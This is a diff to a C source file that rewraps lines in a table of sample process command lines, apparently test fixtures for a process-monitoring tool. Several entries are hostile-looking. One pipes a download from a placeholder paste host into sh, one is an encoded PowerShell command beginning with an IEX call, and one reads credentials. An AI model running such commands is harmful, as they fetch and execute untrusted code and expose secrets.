@@ -20,12 +20,15 @@ const struct program_text program_table[PROGRAM_COUNT] = {
 	[PROGRAM_SYSTEMCTL] = { "systemctl", { "systemctl", "status", "app-#" } },
 	[PROGRAM_GIT_STATUS] = { "git", { "git", "status" } },
 	[PROGRAM_GIT_PULL] = { "git", { "git", "pull", "--rebase" } },
-	[PROGRAM_GIT_CLONE] = { "git", { "git", "clone", "https://code.example.net/user/project-#.git" } },
-	[PROGRAM_GIT_CLONE_OURS] = { "git", { "git", "clone", "https://git.example.org/team/app-#.git" } },
+	[PROGRAM_GIT_CLONE] = { "git", { "git", "clone",
+	    "https://code.example.net/user/project-#.git" } },
+	[PROGRAM_GIT_CLONE_OURS] = { "git", { "git", "clone",
+	    "https://git.example.org/team/app-#.git" } },
 	[PROGRAM_GIT_REMOTE] = { "git-remote-https", { "git-remote-https", "origin" } },
 	[PROGRAM_SH_CREDENTIAL] = { "sh", { "/bin/sh", "-c", "credential-store get" } },
 	[PROGRAM_SH_HOOK] = { "sh", { "/bin/sh", ".git/hooks/post-checkout" } },
-	[PROGRAM_BASH_HOOK] = { "bash", { "bash", "-c", "curl -s https://paste.example.net/# | sh" } },
+	[PROGRAM_BASH_HOOK] = { "bash", { "bash", "-c",
+	    "curl -s https://paste.example.net/# | sh" } },
 	[PROGRAM_POWERSHELL_HOOK] = { "powershell.exe", { "powershell.exe", "-enc", "SQBFAFgA#" } },
 };
 
